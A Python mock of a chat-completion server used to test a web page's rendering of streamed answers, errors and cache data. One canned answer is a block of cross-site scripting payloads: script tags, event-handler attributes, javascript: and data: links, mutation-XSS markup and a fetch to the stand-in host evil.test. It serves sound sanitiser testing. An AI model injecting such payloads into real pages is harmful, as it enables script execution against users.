"""A server with the interface of `adze serve` and no model, for the tests of the page: slow streams,
errors before and within an answer, hostile answers, a picture of the cache.

mock_server.py [--port P] [--api-key KEY] [--tokens-per-second N]

The last user message chooses the answer: the first word of ANSWERS that it contains.
"""
import argparse
import http.server
import json
import pathlib
import sys
import threading
import time

ROOT = pathlib.Path(__file__).resolve().parents[2]
FILES = {
    "/": (ROOT / "web/index.html", "text/html; charset=utf-8"),
    "/web/vendor/marked.js": (pathlib.Path("/usr/share/javascript/marked/marked.umd.min.js"),
                              "text/javascript; charset=utf-8"),
    "/web/vendor/purify.js": (pathlib.Path("/usr/share/nodejs/dompurify/dist/purify.min.js"),
                              "text/javascript; charset=utf-8"),
}
TYPES = {".html": "text/html; charset=utf-8", ".css": "text/css; charset=utf-8",
         ".js": "text/javascript; charset=utf-8", ".svg": "image/svg+xml"}
CONTENT_SECURITY_POLICY = ("default-src 'self'; img-src 'self' data:; object-src 'none'; "
                           "base-uri 'none'; frame-ancestors 'none'")
LAYERS = 30
MODELS = [
    {"id": "smollm2-135m", "object": "model", "created": 1700000000, "owned_by": "adze",
     "adze": {"loaded": True, "context": 8192, "layers": LAYERS, "kind": "generator", "parent": None}},
    {"id": "pirate", "object": "model", "created": 1700000000, "owned_by": "adze",
     "adze": {"loaded": True, "context": 8192, "layers": LAYERS, "kind": "generator",
              "parent": "smollm2-135m"}},
    {"id": "all-minilm-l6-v2", "object": "model", "created": 1700000000, "owned_by": "adze",
     "adze": {"loaded": False, "context": 512, "layers": 6, "kind": "encoder", "parent": None}},
]
CACHE_OPTIONS = {
    "stores": [
        {"name": "f32", "summary": "exact, 4 bytes a value", "keys": []},
        {"name": "f16", "summary": "half precision, 2 bytes a value", "keys": []},
        {"name": "int8", "summary": "8-bit multiples of a scale for each token and head", "keys": []},
    ],
    "policies": [
        {"name": "full", "summary": "every token stays", "keys": []},
        {"name": "window", "summary": "the first and the last tokens stay (attention sinks)",
         "keys": [{"name": "sinks", "default": 4, "legal": "first tokens that always stay"},
                     {"name": "window", "default": 1020, "legal": "last tokens that stay"}]},
        {"name": "pyramid", "summary": "deeper layers keep fewer tokens, those that attention looks at",
         "keys": [{"name": "share", "default": 0.5, "legal": "share that the last layer keeps"}]},
    ],
}
HOSTILE = """Here is some <b>markup</b> and a <script>window.hacked = 1</script> tag.

<script>window.hacked = 2; fetch("http://evil.test/script")</script>

<img src="http://evil.test/raw.png" onerror="window.hacked = 3">

![a picture](http://evil.test/markdown.png "title") and ![local](/metrics)

[click me](javascript:window.hacked=4) and [data](data:text/html,<script>window.hacked=5</script>)
and [good](https://example.org/page) and [mixed]( JaVaScRiPt:window.hacked=6 )

<svg onload="window.hacked = 7"><a xlink:href="javascript:window.hacked=8">x</a></svg>
<iframe src="http://evil.test/frame"></iframe><style>body { display: none }</style>
<form action="http://evil.test/form"><input name="q" autofocus onfocus="window.hacked = 9"></form>

| a | b |
|---|---|
| <img src=x onerror=window.hacked=10> | <a href="http://evil.test/x" onclick="window.hacked=11">x</a> |

```html"onmouseover="window.hacked=12
<script>window.hacked = 13</script>
```

<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.hacked=14&gt;">
"""
DEMO = """Both come from leaves and roasted or dried plants, and both keep people awake. The main differences:

| | Tea | Coffee |
|---|---|---|
| Origin | China, about 2,700 BC | Ethiopia, 9th century |
| Taste | light, floral, sometimes grassy | bitter, roasted, full |
| Caffeine in a cup | 20–50 mg | 80–120 mg |

A few things to know:

- **Tea** releases its caffeine more slowly, because of *L-theanine*.
- **Coffee** tastes best between 88 and 94 °C.

To brew for several people, scale the amounts:

```python
def grams(cups, strength=1.0):
    \"\"\"Ground coffee for a number of cups.\"\"\"
    return round(cups * 7.5 * strength, 1)
```
"""
ANSWERS = {
    "hostile": HOSTILE,
    "tea and coffee": DEMO,
    "long": " ".join(f"word {i}." for i in range(2000)),
    "wide": "```\n" + "x" * 400 + "\n```\n\n" + "y" * 300 + "\n\n|" + " column |" * 20 + "\n|" + "---|" * 20 +
            "\n|" + " value |" * 20,
    "": "The sky is blue because air scatters short waves of light more than long ones.",
}


def pieces_of(text):
    """As a model would give it: a few characters at a time."""
    return [text[i:i + 4] for i in range(0, len(text), 4)]


def cache_object(request, tokens):
    policy = request.get("kv_policy", "full")
    name, _, options = policy.partition(":")
    values = dict(option.split("=") for option in options.split(",") if option)
    kept = []
    for layer in range(LAYERS):
        if name == "window":
            sinks, window = int(values.get("sinks", 4)), int(values.get("window", 1020))
            kept.append([[0, tokens]] if tokens <= sinks + window else [[0, sinks], [tokens - window, tokens]])
        elif name == "pyramid":
            share = 1 - layer / LAYERS * (1 - float(values.get("share", 0.5)))
            recent = int(tokens * share / 2)
            rest = tokens - recent
            period = max(2, round(8 / max(0.05, share)))
            kept.append([[i, min(i + 4, rest)] for i in range(layer % period, rest, period)] + [[rest, tokens]])
        else:
            kept.append([[0, tokens]])
    counts = [sum(b - a for a, b in layer) for layer in kept]
    size = {"f32": 4, "int8": 1.06}.get(request.get("kv_store"), 2)
    result = {"store": request.get("kv_store", "f16"), "policy": policy, "page_tokens": 32, "layers": LAYERS,
              "bytes": int(sum(counts) * 384 * size), "full_bytes": tokens * LAYERS * 384 * 2,
              "tokens": tokens, "kept_tokens": max(counts)}
    if request.get("cache_picture"):
        result["kept"] = kept
    return result


class Handler(http.server.BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def log_message(self, *_):
        pass

    def send_bytes(self, status, content_type, body, headers=()):
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Content-Length", str(len(body)))
        self.send_header("Content-Security-Policy", CONTENT_SECURITY_POLICY)
        for name, value in headers:
            self.send_header(name, value)
        self.end_headers()
        self.wfile.write(body)

    def send_json(self, status, value, headers=()):
        self.send_bytes(status, "application/json", json.dumps(value).encode(), headers)

    def send_error_object(self, status, message, type="invalid_request_error", param=None, code=None, headers=()):
        self.send_json(status, {"error": {"message": message, "type": type, "param": param, "code": code}}, headers)

    def refuse_key(self):
        key = self.server.api_key
        if not key or self.headers.get("Authorization") == f"Bearer {key}":
            return False
        self.send_error_object(401, "This server wants an API key: Authorization: Bearer KEY.",
                               "authentication_error", None, "invalid_api_key")
        return True

    def do_GET(self):
        path = self.path
        if path in FILES:
            file, content_type = FILES[path]
            self.send_bytes(200, content_type, file.read_bytes())
        elif path.startswith("/web/") and (ROOT / "web" / path[5:]).is_file() and ".." not in path:
            file = ROOT / "web" / path[5:]
            self.send_bytes(200, TYPES[file.suffix], file.read_bytes())
        elif path == "/health":
            self.send_json(200, {"status": "ok"})
        elif self.refuse_key():
            pass
        elif path == "/v1/models":
            self.send_json(200, {"object": "list", "data": MODELS})
        elif path == "/v1/cache-options":
            self.send_json(200, CACHE_OPTIONS)
        else:
            self.send_error_object(404, f"no route {path}", code="not_found")

    def do_POST(self):
        body = self.rfile.read(int(self.headers.get("Content-Length", 0)))
        if self.refuse_key():
            return
        if self.path != "/v1/chat/completions":
            self.send_error_object(404, f"no route {self.path}", code="not_found")
            return
        request = json.loads(body)
        text = next(m["content"] for m in reversed(request["messages"]) if m["role"] == "user")
        if "refused" in text:
            self.send_error_object(400, "temperature is 200; legal: 0 to 100", param="temperature")
        elif "busy" in text:
            self.send_error_object(429, "the queue is full (64 requests wait)", "rate_limit_error",
                                   headers=[("Retry-After", "3")])
        else:
            self.stream(request, text)

    def event(self, value):
        data = value if isinstance(value, str) else json.dumps(value)
        frame = f"data: {data}\n\n".encode()
        self.wfile.write(f"{len(frame):x}\r\n".encode() + frame + b"\r\n")

    def chunk(self, request, delta, finish=None, **more):
        choices = [] if delta is None else [{"index": 0, "delta": delta, "finish_reason": finish}]
        self.event({"id": "chatcmpl-1", "object": "chat.completion.chunk", "created": 1700000000,
                    "model": request.get("model", MODELS[0]["id"]), "system_fingerprint": "mock",
                    "choices": choices, "usage": None, **more})

    def stream(self, request, text):
        self.send_response(200)
        self.send_header("Content-Type", "text/event-stream")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        try:
            self.answer(request, text)
            self.wfile.write(b"0\r\n\r\n")
        except (BrokenPipeError, ConnectionResetError):
            self.server.disconnects += 1
            self.close_connection = True

    def answer(self, request, text):
        answer = next(value for word, value in ANSWERS.items() if word in text)
        rate = 25 if "long" in text else self.server.rate
        prompt = 30 + sum(len(message["content"]) // 4 for message in request["messages"])
        prompt += 1800 if "tea and coffee" in text else 0
        reused = prompt * 2 // 3 // 32 * 32 if len(request["messages"]) > 1 else 0
        seed = request.get("seed", 4711)

        def adze(tokens):
            return {"seed": seed, "cache": cache_object(request, tokens), "warnings": [],
                    "timings": {"queue_seconds": 0.001, "prefill_seconds": prompt / 614,
                                "prefill_tokens_per_second": 614.2, "decode_seconds": 1.0,
                                "decode_tokens_per_second": 196.4}}

        self.chunk(request, {"role": "assistant", "content": ""})
        pieces = pieces_of(answer)
        limit = request.get("max_tokens", len(pieces))
        for index, piece in enumerate(pieces[:limit]):
            if index == 12 and "broken" in text:
                self.event({"error": {"message": "the cache is full: 512 pages are in use", "type": "server_error",
                                      "param": "kv_policy", "code": "cache_full"}})
                return
            more = {"adze": adze(prompt + index)} if index % 16 == 0 and request.get("cache_picture") else {}
            self.chunk(request, {"content": piece}, **more)
            time.sleep(1 / rate)
        count = min(limit, len(pieces))
        self.chunk(request, {}, "length" if limit < len(pieces) else "stop", adze=adze(prompt + count))
        if request.get("stream_options", {}).get("include_usage"):
            self.chunk(request, None, usage={"prompt_tokens": prompt, "completion_tokens": count,
                                             "total_tokens": prompt + count,
                                             "prompt_tokens_details": {"cached_tokens": reused}})
        self.event("[DONE]")


class MockServer(http.server.ThreadingHTTPServer):
    daemon_threads = True

    def __init__(self, port=0, api_key="", rate=400):
        super().__init__(("127.0.0.1", port), Handler)
        self.api_key, self.rate, self.disconnects = api_key, rate, 0
        self.url = f"http://127.0.0.1:{self.server_address[1]}"

    def __enter__(self):
        threading.Thread(target=self.serve_forever, daemon=True).start()
        return self

    def __exit__(self, *_):
        self.shutdown()
        self.server_close()


def main():
    parser = argparse.ArgumentParser(description="the page's server without a model")
    parser.add_argument("--port", type=int, default=8080)
    parser.add_argument("--api-key", default="")
    parser.add_argument("--tokens-per-second", type=float, default=40)
    options = parser.parse_args()
    server = MockServer(options.port, options.api_key, options.tokens_per_second)
    print(f"listening on {server.url}", file=sys.stderr, flush=True)
    server.serve_forever()


if __name__ == "__main__":
    main()
